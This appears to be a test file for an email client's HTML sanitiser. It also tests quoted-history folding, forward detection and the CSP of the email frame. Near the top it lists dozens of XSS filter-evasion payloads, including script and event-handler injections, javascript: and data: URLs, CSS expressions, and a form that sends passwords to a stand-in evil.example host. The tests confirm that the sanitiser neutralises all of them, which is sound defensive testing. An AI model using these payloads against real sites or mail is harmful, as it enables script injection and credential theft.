import { Parser } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { htmlToText, sanitizeHtml, sanitizeStyle, showRemoteImages } from '../../src/lib/sanitize-html'
import { isForwardSubject, quotedHistoryStart } from '../../src/lib/quoted-text'
import { emailFrameDocument, resolveCidImages } from '../../templates/email'

// Classic filter-evasion payloads: script in every disguise, event handlers, dangerous URLs in
// every attribute that takes one, style-based script and loads, parser confusion.
const xssPayloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)><circle r=10></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object>',
  '<embed src="evil.swf">',
  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<div style="background-image: url(https://tracker.example/p.gif)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="background:u\\72l(https://evil.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">fake login</div>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  "<p title='x' onclick='alert(1)'>x</p>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<template><img src=x onerror=alert(1)></template>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://ok.example" target="_self" ping="https://tracker.example">x</a>',
  '<img src="https://tracker.example/open.gif" srcset="https://tracker.example/2x.gif 2x">',
  '<table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>',
  '<div data-remote-src="javascript:alert(1)">forged</div>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<a href="#" id="x" name="y" class="z" formaction="javascript:alert(1)">x</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
]

const allowedAttributeNames = new Set([
  'title',
  'lang',
  'dir',
  'align',
  'valign',
  'width',
  'height',
  'bgcolor',
  'style',
  'href',
  'target',
  'rel',
  'src',
  'alt',
  'border',
  'hspace',
  'vspace',
  'cellpadding',
  'cellspacing',
  'summary',
  'colspan',
  'rowspan',
  'nowrap',
  'headers',
  'scope',
  'span',
  'color',
  'face',
  'size',
  'start',
  'type',
  'reversed',
  'value',
  'open',
  'datetime',
  'data-remote-src',
  'class',
])

/** Parses our output the way a browser would tokenize it and collects what it would act on. */
function inspect(html: string) {
  const tags: string[] = []
  const attributes: { name: string; value: string }[] = []
  new Parser(
    {
      onopentag(name, attrs) {
        tags.push(name)
        for (const [attribute, value] of Object.entries(attrs)) attributes.push({ name: attribute, value })
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  ).end(html)
  return { tags, attributes }
}

describe('the HTML sanitiser', () => {
  it.each(xssPayloads)('leaves nothing active of %s', (payload) => {
    const { html } = sanitizeHtml(payload)
    const { tags, attributes } = inspect(html)
    const forbiddenTags = [
      'script',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'button',
      'meta',
      'link',
      'base',
      'style',
      'svg',
      'math',
      'textarea',
      'title',
      'xmp',
      'template',
      'video',
      'source',
      'noscript',
    ]
    expect(tags.filter((tag) => forbiddenTags.includes(tag))).toEqual([])
    for (const attribute of attributes) {
      expect(allowedAttributeNames.has(attribute.name), `attribute ${attribute.name}`).toBe(true)
      if (attribute.name === 'href') expect(attribute.value).toMatch(/^(https?:|mailto:|tel:)/i)
      if (attribute.name === 'src') expect(attribute.value).toMatch(/^(cid:|data:image\/(png|gif|jpeg|webp);base64,)/i)
      if (attribute.name === 'data-remote-src') expect(attribute.value).toMatch(/^https?:/i)
      if (attribute.name === 'style') expect(attribute.value).not.toMatch(/url|expression|behavio|position|\\|import/i)
    }
  })

  it('holds remote images back until asked, keeps cid and raster data images, drops SVG data', () => {
    const input = '<p>Hi <img src="https://cdn.example/logo.png" alt="logo"> <img src="cid:part1@x"> <img src="data:image/png;base64,iVBORw0KGgo="></p>'
    const result = sanitizeHtml(input)
    expect(result.remoteImages).toBe(1)
    expect(result.html).toBe(
      '<p>Hi <img data-remote-src="https://cdn.example/logo.png" alt="logo"> <img src="cid:part1@x"> <img src="data:image/png;base64,iVBORw0KGgo="></p>',
    )
    expect(showRemoteImages(result.html)).toContain('<img src="https://cdn.example/logo.png" alt="logo">')
  })

  it('keeps ordinary formatting and opens links in a new tab without a referrer', () => {
    const { html } = sanitizeHtml('<div style="color: rgb(0, 0, 0); font-size: 12pt"><b>Hi</b> <a href="https://example.com/a?b=1&amp;c=2">link</a></div>')
    expect(html).toBe(
      '<div style="color: rgb(0, 0, 0); font-size: 12pt"><b>Hi</b> <a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">link</a></div>',
    )
  })

  it('folds client quote blocks (Gmail, Apple Mail, Outlook) into a closed <details>', () => {
    expect(sanitizeHtml('<div>New</div><div class="gmail_quote">On Mon … wrote:<blockquote>old</blockquote></div><p>after</p>').html).toBe(
      '<div>New</div><details class="quoted"><summary>Show quoted text</summary><div>On Mon … wrote:<blockquote>old</blockquote></div></details><p>after</p>',
    )
    expect(sanitizeHtml('<p>New</p><blockquote type="cite">old</blockquote>').html).toBe(
      '<p>New</p><details class="quoted"><summary>Show quoted text</summary><blockquote>old</blockquote></details>',
    )
    expect(sanitizeHtml('<body><p>New</p><div id="divRplyFwdMsg">From: x</div><div>old</div></body>').html).toBe(
      '<p>New</p><details class="quoted"><summary>Show quoted text</summary><div>From: x</div><div>old</div></details>',
    )
  })

  it('filters style declarations one by one', () => {
    expect(sanitizeStyle('color: red; background: url(x); font-weight: bold; width: expression(1)')).toBe('color: red; font-weight: bold')
  })

  it('turns HTML into readable text without anything from scripts or styles', () => {
    expect(htmlToText('<style>p{}</style><p>Hello&nbsp;<b>world</b></p><script>x()</script><table><tr><td>a</td><td>b</td></tr></table>')).toBe(
      'Hello world\n\na b',
    )
  })

  it('resolves cid images to our attachment URLs and builds a frame document with a strict CSP', () => {
    const html = resolveCidImages('<img src="cid:ii_1"><img src="cid:unknown">', [
      { id: 'att1', filename: 'a.png', contentType: 'image/png', sizeBytes: 1, contentId: 'ii_1' },
    ])
    expect(html).toBe('<img src="/attachments/att1"><img>')
    // The policy sits in an attribute, so its quotes are escaped.
    const policyOf = (document: string) => /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(document)![1]!.replace(/&#39;/g, "'")
    const strict = policyOf(emailFrameDocument(html, false))
    expect(strict).toContain("script-src 'none'")
    expect(strict).toContain("img-src 'self' data:;")
    expect(policyOf(emailFrameDocument(html, true))).toContain("img-src 'self' data: https: http:;")
  })
})

describe('forwarded content is the message, not quoted history', () => {
  it('keeps an Apple Mail forward open, and an Outlook header block open when the subject says forward', () => {
    const apple =
      '<div dir="auto">See below.<br><div dir="ltr"><br><blockquote type="cite"><div>Begin forwarded message:</div><br class="Apple-interchange-newline"><div style="margin: 0px"><span><b>From: </b></span><span>Ola &lt;ola@example.no&gt;</span></div><br><div>The boots are torn.</div></blockquote></div></div>'
    expect(sanitizeHtml(apple).html).not.toContain('<details')
    expect(sanitizeHtml('<p>New</p><blockquote type="cite"><div>On 24 Nov, Ola wrote:</div>old</blockquote>').html).toContain('<details')

    // A note typed inside Gmail's container, above the forward: still the message.
    expect(
      sanitizeHtml(
        '<div class="gmail_quote">Please handle<br><div class="gmail_attr">---------- Forwarded message ---------<br>From: Ola</div><div>Torn seam.</div></div>',
      ).html,
    ).not.toContain('<details')
    // A reply whose quoted history is a forward folds as any reply.
    expect(
      sanitizeHtml(
        '<div>Done.</div><div class="gmail_quote"><div class="gmail_attr">On Mon, Kari wrote:</div><blockquote class="gmail_quote">---------- Forwarded message ---------<br>Torn seam.</blockquote></div>',
      ).html,
    ).toContain('<details class="quoted">')

    const outlook =
      '<div>FYI</div><hr><div id="divRplyFwdMsg"><b>From:</b> Ola<br><b>Sent:</b> Tuesday<br><b>Subject:</b> Boots</div><div>The boots are torn.</div>'
    expect(sanitizeHtml(outlook, { forwarded: true }).html).not.toContain('<details')
    expect(sanitizeHtml(outlook).html).toContain('<details class="quoted">')
  })

  it('does not fold plain text from a forward marker on, nor an Outlook block under a forward subject', () => {
    expect(quotedHistoryStart('Hi team\n\n---------- Forwarded message ---------\nFrom: Ola <ola@example.no>\nSubject: Boots\n\nTorn seam.')).toBeNull()
    expect(quotedHistoryStart('FYI\n\nBegin forwarded message:\n\nFrom: Ola <ola@example.no>\nSubject: Boots\n\nTorn seam.')).toBeNull()
    expect(quotedHistoryStart('FYI\n\n-------- Forwarded Message --------\nSubject: Boots\n\n> quoted inside')).toBeNull()
    const outlook = 'FYI\n\n________________________________\nFrom: Ola <ola@example.no>\nSent: Tuesday\nSubject: Boots\n\nTorn seam.'
    expect(quotedHistoryStart(outlook, { forwarded: true })).toBeNull()
    expect(quotedHistoryStart(outlook)).not.toBeNull()
    // A reply above a forward still folds the history it answers.
    expect(quotedHistoryStart('Done.\n\nOn Mon, Kari wrote:\n> ---------- Forwarded message ---------\n> Torn seam.')).toBe(7)
    expect(isForwardSubject('Fwd: Boots')).toBe(true)
    expect(isForwardSubject('WG: Stiefel')).toBe(true)
    expect(isForwardSubject('Re: Fwd: Boots')).toBe(false)
  })
})

describe('quoted history in plain text', () => {
  it('finds the attribution line in several languages, the Outlook header block and trailing > quotes', () => {
    const cases: [string, string][] = [
      ['Thanks!\n\nOn Mon, 23 Nov 2026 at 10:00, Support <s@x> wrote:\n> old', 'On Mon'],
      ['Danke\n\nAm 23.11.2026 um 10:00 schrieb Support <s@x>:\n> alt', 'Am 23'],
      ['Takk\n\nDen 23. nov. 2026 kl. 10:00 skrev Support <s@x>:\n> gammel', 'Den 23'],
      ['Hei\n\n________________________________\nFra: Support <s@x>\nSendt: mandag', '____'],
      ['Ok\n\n-----Original Message-----\nFrom: x', '-----Original'],
      ['Yes\n> quoted\n> more', '> quoted'],
    ]
    for (const [text, quoteStartsWith] of cases) {
      const start = quotedHistoryStart(text)
      expect(start, text).not.toBeNull()
      expect(text.slice(start!).startsWith(quoteStartsWith), text).toBe(true)
    }
    expect(quotedHistoryStart('> only a quote\n> nothing new')).toBeNull()
    expect(quotedHistoryStart('Just text\nwith lines')).toBeNull()
  })
})
